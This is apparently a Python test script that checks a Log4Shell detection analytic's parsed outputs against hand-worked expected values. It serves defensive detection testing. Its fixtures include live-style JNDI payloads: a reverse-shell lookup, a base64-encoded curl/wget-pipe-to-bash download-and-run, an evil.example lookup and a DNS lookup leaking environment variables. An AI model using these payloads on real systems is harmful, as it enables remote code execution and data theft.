"""Checks the golden outputs of the log4shell cases against values worked out by hand
(run inside the image: python3 tests/check_expected.py from the analytic's folder)."""
import json
import os

import pyarrow.parquet as pq

HERE = os.path.dirname(os.path.abspath(__file__))
BINARYEDGE = "${jndi:ldap://xf.world80.log4j.binAryedge.io:80/callback}"
SHELL = "${jndi:ldap://167.99.32.139:1389/Basic/ReverseShell/167.99.32.139/9999}"
B64 = ("${jndi:ldap://195.54.160.149:12344/Basic/Command/Base64/KGN1cmwgLXMgMTk1LjU0LjE2MC4x"
       "NDk6NTg3NC81Mi41NC4yMzcuNjQ6ODB8fHdnZXQgLXEgLU8tIDE5NS41NC4xNjAuMTQ5OjU4NzQvNTIuNTQuMj"
       "M3LjY0OjgwKXxiYXNo}")
C = "${jndi:ldap://162.55.90.26/876014912/C}"


def table(case):
    t = pq.read_table(os.path.join(HERE, case, "expected/output/0.parquet.gz")).to_pylist()
    i = pq.read_table(os.path.join(HERE, case, "input/0.parquet.gz")).to_pylist()
    assert [r["id"] for r in t] == [r["id"] for r in i], case
    for a, b in zip(i, t):
        for k, v in a.items():
            assert b[k] == v, (case, k)
    return t


CURL = ("(curl -s 195.54.160.149:5874/52.54.237.64:80||"
        "wget -q -O- 195.54.160.149:5874/52.54.237.64:80)|bash")


def check(row, exploit, proto, host, port, path, payloads=None):
    got = (row["x_log4shell_exploit"], row["x_log4shell_protocol"], row["x_log4shell_host"],
           row["x_log4shell_port"], row["x_log4shell_path"])
    assert got == (exploit, proto, host, port, path), got
    want_command = CURL if path and "/Base64/" in path else None
    assert row["x_log4shell_command"] == want_command, row["x_log4shell_command"]
    if exploit is None:
        assert row["x_log4shell_payloads"] is None
    else:
        assert json.loads(row["x_log4shell_payloads"]) == (payloads or [exploit])


art = table("stix-artifacts")
assert len(art) == 10
# QRadar logs (3), then WAF records: 167.99 shell, binaryedge x2 ... as ordered in the bundle
expect = [BINARYEDGE] * 3 + [SHELL, BINARYEDGE, C, BINARYEDGE, BINARYEDGE, BINARYEDGE, B64]
for row, e in zip(art, expect):
    if e == BINARYEDGE:
        check(row, e, "ldap", "xf.world80.log4j.binaryedge.io", 80, "/callback")
    elif e == SHELL:
        check(row, e, "ldap", "167.99.32.139", 1389, "/Basic/ReverseShell/167.99.32.139/9999")
    elif e == C:
        check(row, e, "ldap", "162.55.90.26", None, "/876014912/C")
    else:   # three differently obfuscated copies of one payload collapse to one
        check(row, e, "ldap", "195.54.160.149", 12344, e[e.index("/Basic"):-1])

waf = table("waf-network-traffic")
assert [r["x_log4shell_exploit"] for r in waf] == expect[3:]
assert waf[-1]["x_request_header.'Referer'"].startswith("${jndi:${lower:l}")

url = table("url-values")
check(url[0], "${jndi:ldap://evil.example:1389/a}", "ldap", "evil.example", 1389, "/a")
check(url[1], "${jndi:rmi://evil.example/obj}", "rmi", "evil.example", None, "/obj")
check(url[2], "${jndi:ldap://[2001:db8::1]:636/o}", "ldap", "[2001:db8::1]", 636, "/o")
check(url[3], "${jndi:dns://${env:USER}.${hostName}.exfil.example}", "dns",
      "${env:user}.${hostname}.exfil.example", None, None)
for r in url[4:]:   # benign, null, $$-escaped, unclosed
    check(r, None, None, None, None, None)

# empty-input: an empty variable (0 rows, 0 columns), which Kestrel never hands an analytic;
# no golden (the analytic leaves it unchanged)
assert not os.path.exists(os.path.join(HERE, "empty-input/expected"))
empty = pq.read_table(os.path.join(HERE, "empty-input/input/0.parquet.gz"))
assert (empty.num_rows, empty.num_columns) == (0, 0)
print("log4shell goldens: all values as expected")
